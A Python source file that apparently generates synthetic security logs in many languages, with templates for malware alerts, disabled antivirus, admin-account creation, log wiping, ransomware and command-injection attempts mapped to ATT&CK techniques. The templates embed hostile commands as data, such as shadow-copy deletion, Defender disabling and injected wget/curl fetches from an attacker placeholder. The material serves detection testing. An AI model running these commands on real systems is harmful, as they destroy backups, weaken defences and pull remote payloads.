"""What attacks look like in the words of programs that speak other languages than English."""

from generator.families.applications.product import story
from generator.families.applications.tongue_products import desk, gateway, guard, office
from generator.scene import attack

story("applications/tongue-malware-found", [guard], r"""
W Bedrohung gefunden: <Trojan:Win32/Emotet|HEUR/AGEN.{big}|TR/Dropper.Gen|Win32.Worm.{word}> in {wpath}, Bereinigung fehlgeschlagen

E Schadsoftware <Trojan.GenericKD.{big}|Ransom.{word}|Backdoor.Agent> ausgeführt durch {user1} auf {pc}

W Menace détectée : <Trojan.Win32.Agent|Ransom:Win32/{word}|Backdoor.Cobalt> dans {wpath} ; action : aucune

E Virus trouvé dans {wpath}, suppression impossible, le processus est actif (pid {pid})

W Amenaza detectada: <Troyano.Agent|Ransom.{word}|PWS:Win32/{word}> archivo {wpath} usuario {user1}

W Rilevato malware <Trojan.{word}|Backdoor.{word}> in {wpath}, quarantena non riuscita

W Bedreiging gevonden: <Trojan:Script/{word}|Ransom.{word}> bestand {wpath}, verwijderen mislukt

W Wykryto zagrożenie: <Trojan.{word}|Backdoor.{word}.A> plik {wpath}, nie można usunąć

W Ameaça encontrada: <Trojan.Banker|Ransom.{word}> em {wpath}

E Tehdit algılandı: <Trojan.{word}|Fidye yazılımı {word}> dosya {wpath}, temizlenemedi

W Обнаружена угроза <HEUR:Trojan.Win32.Generic|Trojan-Ransom.Win32.{word}|Backdoor.Win32.{word}>: {wpath}, лечение невозможно

E Вредоносный процесс {word}.exe завершён, объект {wpath}, пользователь {user1}

W 脅威を検出しました: <Trojan:Win32/{word}|Ransom.{word}> ファイル: {wpath} 駆除できませんでした

W 发现病毒 <Trojan.{word}|勒索病毒 {word}|后门 Backdoor.{word}> 文件 {wpath} 处理失败

W تم اكتشاف تهديد: <Trojan.{word}|Ransom.{word}> الملف {wpath}
""", attack("Malware Detected", "T1204.002"))

story("applications/tongue-protection-switched-off", [guard, desk], r"""
W Echtzeitschutz wurde deaktiviert durch {user1} <per Registrierung|per PowerShell|über Richtlinie von unbekannt>

W Ausschluss hinzugefügt: C:\<Users\Public|Windows\Temp|ProgramData>\{word} (Prozess <powershell.exe|cmd.exe|reg.exe>)

E Dienst "Virenschutz" wurde beendet und gelöscht: sc delete {word} durch {user1}

W La protection en temps réel a été désactivée par <powershell.exe|reg.exe|cmd.exe>

W Exclusion ajoutée : C:\<Users\Public|Windows\Temp>\ par {word}.exe

W Protección en tiempo real desactivada mediante Set-MpPreference por {user1}

W Protezione antivirus disattivata da {word}.exe, firewall disattivato

W Realtimebeveiliging uitgeschakeld via <powershell|register> door onbekend proces

W Ochrona w czasie rzeczywistym wyłączona przez proces {word}.exe z C:\Users\Public

W Proteção em tempo real desativada por {word}.exe

W Gerçek zamanlı koruma {word}.exe tarafından kapatıldı

E Защита отключена процессом <powershell.exe|{word}.exe> из C:\<Users\Public|Windows\Temp>

W リアルタイム保護が無効にされました。プロセス: C:\<Users\Public|Windows\Temp>\{word}.exe

W 实时防护被 <powershell.exe|{word}.exe> 关闭, 命令行: Set-MpPreference -DisableRealtimeMonitoring 1

W تم تعطيل الحماية الفورية بواسطة {word}.exe
""", attack("Defense Evasion", "T1562.001"))

story("applications/tongue-services-planted", [desk], r"""
I Ein Dienst wurde im System installiert. Dienstname: {word1} Dienstdateiname: <%COMSPEC% /C echo|C:\Windows\Temp\{word1}.exe|C:\Users\Public\{word1}.exe|\\127.0.0.1\ADMIN$\{word1}.exe> Diensttyp: Benutzermodusdienst Kontoname: LocalSystem

I Un service a été installé sur le système. Nom du service : {word1} Fichier : <cmd.exe /c powershell -enc {hex}|C:\Users\Public\{word1}.exe|C:\Windows\Temp\{word1}.exe> Compte : LocalSystem

I Se instaló un servicio en el sistema. Nombre: {word1} Archivo: <C:\PerfLogs\{word1}.exe|C:\Users\Public\{word1}.bat|powershell -nop -w hidden -enc {hex}>

I È stato installato un servizio nel sistema. Nome: {word1} File: <C:\Windows\Temp\{word1}.exe|%COMSPEC% /b /c start {word1}.exe>

I Er is een service in het systeem geïnstalleerd. Servicenaam: {word1} Bestand: <C:\Users\Public\{word1}.exe|cmd /c C:\Temp\{word1}.bat>

I W systemie zainstalowano usługę. Nazwa: {word1} Plik: C:\<Users\Public|Windows\Temp|PerfLogs>\{word1}.exe

I Um serviço foi instalado no sistema. Nome: {word1} Arquivo: C:\<Users\Public|Windows\Temp>\{word1}.exe

I Sistemde bir hizmet yüklendi. Hizmet Adı: {word1} Dosya: C:\<Users\Public|Windows\Temp>\{word1}.exe

I В системе установлена служба. Имя службы: {word1} Файл: <C:\Windows\Temp\{word1}.exe|%COMSPEC% /Q /c {word1}.bat|C:\Users\Public\{word1}.exe>

I サービスがシステムにインストールされました。サービス名: {word1} ファイル: <C:\Users\Public\{word1}.exe|C:\Windows\Temp\{word1}.exe|powershell -enc {hex}>

I 系统中安装了服务。服务名称: {word1} 服务文件名: <C:\Windows\Temp\{word1}.exe|C:\Users\Public\{word1}.exe|cmd /c {word1}.bat>

I تم تثبيت خدمة في النظام. الاسم: {word1} الملف: C:\<Users\Public|Windows\Temp>\{word1}.exe
""", attack("Windows Threat: New Service Installed", "T1543.003"))

story("applications/tongue-administrators-made", [desk], r"""
I Ein neuer Prozess wurde erstellt. Befehlszeile: net user {word1} <Pa55w0rd!|Aa{big}!> /add
I Ein neuer Prozess wurde erstellt. Befehlszeile: net localgroup Administratoren {word1} /add

I Befehlszeile: net localgroup "Remotedesktopbenutzer" {word1} /add
I Befehlszeile: reg add HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server /v fDenyTSConnections /d 0 /f

I Nouveau processus. Ligne de commande : net localgroup Administrateurs {word1} /add
?I Ligne de commande : net user {word1} {word1}{n} /add /y

I Línea de comandos: net localgroup Administradores {word1} /add
?I Línea de comandos: net user {word1} {word1}{n} /add

I Riga di comando: net localgroup Administrators {word1} /add & net user {word1} /active:yes

I Opdrachtregel: net localgroup Administrators {word1} /add && net user {word1} Welkom{n} /add

I Wiersz polecenia: net localgroup Administratorzy {word1} /add

I Linha de comando: net localgroup Administradores {word1} /add

I Komut satırı: net user {word1} {word1}{n} /add & net localgroup Administrators {word1} /add

I Командная строка: net localgroup Администраторы {word1} /add
?I Командная строка: net user {word1} {word1}{n} /add

I コマンド ライン: net user {word1} P@ss{n} /add && net localgroup Administrators {word1} /add

I 进程命令行: net user {word1}$ {word1}{n} /add & net localgroup administrators {word1}$ /add

I سطر الأوامر: net localgroup Administrators {word1} /add
""", attack("Persistence", "T1136.001", "T1098.007"))

story("applications/tongue-traces-wiped", [desk, gateway, office], r"""
I Das Überwachungsprotokoll wurde gelöscht. Kontoname: {word1}

W Protokoll <Security|System> geleert mit wevtutil cl durch {word1}

I Le journal d'audit a été effacé. Nom du compte : {word1}

W Tous les journaux supprimés par {word1} depuis {peer1}

I Se borró el registro de auditoría. Nombre de cuenta: {word1}

I Il registro di controllo è stato cancellato. Nome account: {word1}

I Het auditlogboek is gewist. Accountnaam: {word1}

I Dziennik inspekcji został wyczyszczony. Nazwa konta: {word1}

I O log de auditoria foi limpo. Nome da conta: {word1}

I Denetim günlüğü temizlendi. Hesap Adı: {word1}

I Журнал аудита был очищен. Имя учётной записи: {word1}

W История команд и системный журнал удалены пользователем {word1} с {peer1}

I 監査ログが消去されました。アカウント名: {word1}

I 审核日志已被清除。帐户名: {word1}

I تم مسح سجل التدقيق. اسم الحساب: {word1}
""", attack("Log Clearing", "T1070.001"))

story("applications/tongue-copies-destroyed", [desk, office, guard], r"""
E Erpressernachricht {note} in {many} Ordnern abgelegt

E {many} fichiers chiffrés avec l'extension .{ext1}, demande de rançon {note}

E {many} archivos cifrados (*.{ext1}), nota de rescate {note}

E File rinominati in .{ext1}: {many}; trovato {note}

E Back-ups verwijderd door {word1}, bestanden versleuteld (*.{ext1})

E Pliki zaszyfrowane, rozszerzenie .{ext1}, okup: {note}

E Arquivos criptografados com .{ext1}, backups apagados por {word1}

E Dosyalar şifrelendi: {many} adet *.{ext1}, fidye notu {note}

E Файлы зашифрованы (*.{ext1}), найдено {note}, теневые копии удалены

E ファイルが暗号化されました (*.{ext1})、シャドウ コピーが削除されました

E 检测到大量文件被加密 后缀 .{ext1} 勒索信 {note}

E تم تشفير الملفات بالامتداد .{ext1} ووجدت مذكرة فدية {note}

E {many} Dateien in {dir} umbenannt nach *.{ext1}
""", attack("Ransomware Activity", "T1486", "T1490", severity="CRITICAL"))

story("applications/tongue-recovery-prevented", [desk, office, guard], r"""
W Schattenkopien gelöscht: vssadmin delete shadows /all /quiet, Konto {word1}

E Alle Sicherungen auf {host} gelöscht durch {word1} von {peer1}

W Toutes les sauvegardes supprimées par {word1} ({peer1})

E Copias de seguridad eliminadas: wbadmin delete catalog -quiet

E Tutti i backup eliminati da {word1} ({peer1})

E Alle back-ups verwijderd door {word1} vanaf {peer1}

W Riga di comando: <vssadmin delete shadows /all /quiet|wmic shadowcopy delete>

W Wszystkie kopie zapasowe usunięte przez {word1} ({peer1})

W Командная строка: <vssadmin delete shadows /all /quiet|bcdedit /set recoveryenabled no>

E Все резервные копии удалены пользователем {word1} с {peer1}

W 命令行: <vssadmin delete shadows /all|wbadmin delete catalog -quiet>

E すべてのバックアップが {word1} により削除されました ({peer1})
""", attack("Ransomware Activity", "T1490", severity="CRITICAL"))

story("applications/tongue-passwords-guessed-at", [desk, gateway, office], r"""
*W Fehler beim Anmelden eines Kontos. Kontoname: {user} Quellnetzwerkadresse: {peer1}

*W Anmeldung des Benutzers {user} an der Oberfläche von IP-Adresse {peer1} gescheitert (falsches Kennwort)

*W Échec d'ouverture de session d'un compte. Nom du compte : {user1} Adresse du réseau source : {peer1}

*W Échec de connexion VPN : {user} depuis {peer1}

*W Error de una cuenta al iniciar sesión. Nombre de cuenta: {user1} Dirección: {peer1}

*W Accesso non riuscito per un account. Nome account: {user} Indirizzo: {peer1}

*W Kan een account niet aanmelden. Accountnaam: {user1} Bronadres: {peer1}

*W Logowanie na konto nie powiodło się. Nazwa konta: {user} Adres: {peer1}

*W Falha no logon de uma conta. Nome: {user1} Endereço de origem: {peer1}

*W Bir hesap oturum açamadı. Hesap Adı: {user} Kaynak Ağ Adresi: {peer1}

*W Учетной записи не удалось выполнить вход в систему. Имя: {user1} Адрес: {peer1}

*W アカウントがログオンに失敗しました。アカウント名: {user} ソース アドレス: {peer1}

*W 帐户登录失败。帐户名: {user1} 源网络地址: {peer1}

*W فشل تسجيل دخول الحساب. الاسم: {user} العنوان: {peer1}
""", attack("Brute Force Attack", "T1110.001"))

story("applications/tongue-mail-turned", [office], r"""
W Weiterleitung aller Nachrichten von {mail} an {word1}@{strange1} eingerichtet, Regel ".", Anmeldung von {peer1}

W Posteingangsregel von {user1}: Betreff enthält "Rechnung" -> löschen und weiterleiten an {word1}@{site1}

W Règle de transfert créée : tout message de {mail} vers {word1}@{strange1}, marquer comme lu

W Regla nueva: mover "factura|pago" a RSS y reenviar a {word1}@{strange1}

W Nuova regola: inoltra tutto a {word1}@{strange1} ed elimina

W Nieuwe regel: alles doorsturen naar {word1}@{strange1}, origineel verwijderen

W Reguła: przekaż wszystko na {word1}@{strange1} i usuń oryginał

W Regra: encaminhar tudo para {word1}@{strange1} e excluir

W Kural: tüm iletileri {word1}@{strange1} adresine ilet ve sil

W Создано правило: пересылать всё на {word1}@{strange1} и удалять, вход с {peer1}

W 転送ルール作成: すべてのメールを {word1}@{strange1} へ転送して削除

W 新建规则: 所有邮件转发到 {word1}@{strange1} 并删除原件

W قاعدة جديدة: إعادة توجيه كل الرسائل إلى {word1}@{strange1} وحذفها
""", attack("Mailbox Manipulation", "T1114.003", "T1564.008"))

story("applications/tongue-gateway-attacked", [gateway], r"""
+W Angriff erkannt: Befehlseinschleusung von {peer1}: <;wget http://{peer1}/a.sh|;id|$(curl {peer1}/x)>

+W Attaque détectée : injection de commande depuis {peer1} : <$(curl {peer1}/x)|;cat /etc/shadow>

+W Ataque detectado: ejecución remota, origen {peer1}, petición /cgi-bin/;<id|wget http://{peer1}/m>

+W Attacco rilevato: iniezione di comandi da {peer1} (`<id|uname -a>`)

+W Aanval gedetecteerd: commando-injectie vanaf {peer1}: <;id|;cat /etc/passwd>

+W Wykryto atak: wstrzyknięcie polecenia z {peer1}: <;cat /etc/passwd|$(id)>

+W Ataque detectado: injeção de comando de {peer1}: |<id|whoami>

+W Saldırı algılandı: komut enjeksiyonu, kaynak {peer1}: ;<id|wget {peer1}/b>

+W Обнаружена атака: внедрение команд с {peer1}: <`id`|;curl {peer1}/s>

+W 攻撃を検出: コマンドインジェクション 送信元 {peer1}: ;<id|wget http://{peer1}/x>

+W 检测到攻击: 命令注入 源 {peer1} 内容 <;id|$(wget {peer1}/a)>

+W تم اكتشاف هجوم: حقن أوامر من {peer1}: <;id|$(id)>
""", attack("OS Command Injection Attempt", "T1190", "T1059.004"))
